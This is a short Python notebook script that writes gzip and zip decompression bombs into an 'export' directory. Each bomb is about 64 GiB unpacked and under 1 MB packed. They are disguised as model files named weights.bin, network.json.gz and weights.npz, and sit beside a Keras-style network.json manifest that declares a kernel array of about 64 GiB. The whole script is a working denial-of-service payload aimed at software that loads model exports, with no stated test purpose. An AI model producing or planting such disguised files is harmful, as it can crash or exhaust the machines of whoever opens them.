# %%
import os
from pathlib import Path

export = Path(os.environ["HOME"]).parent / "export"
assert export.is_dir()

# %%
import gzip
import json
import zipfile

# Gzip files that follow each other are one gzip file, so that the work is that of the first.
piece, unpacked = gzip.compress(bytes(64 << 20)), 64 << 30
bomb = gzip.compress(piece * (unpacked // (64 << 20)))
assert len(bomb) < 1 << 20
(export / "weights.bin").write_bytes(bomb)
(export / "network.json.gz").write_bytes(bomb)
with zipfile.ZipFile(export / "weights.npz", "w") as archive:
    archive.writestr("weights.bin", bomb)
    archive.writestr("zeros.npy", bytes(64 << 20), zipfile.ZIP_DEFLATED)

# %%
dense = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 10}, "registered_name": None}
(export / "network.json").write_text(json.dumps({
    "format": 1, "chosen_by": "the variable model", "keras_version": "3", "kind": "network", "compile": None, "history": None,
    "network": {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [dense]}, "registered_name": None},
    "arrays": [{"layer": ["dense"], "index": 0, "name": "kernel", "shape": [unpacked // 40, 10], "dtype": "float32", "trainable": True, "offset": 0, "bytes": unpacked // 40 * 40}],
}))
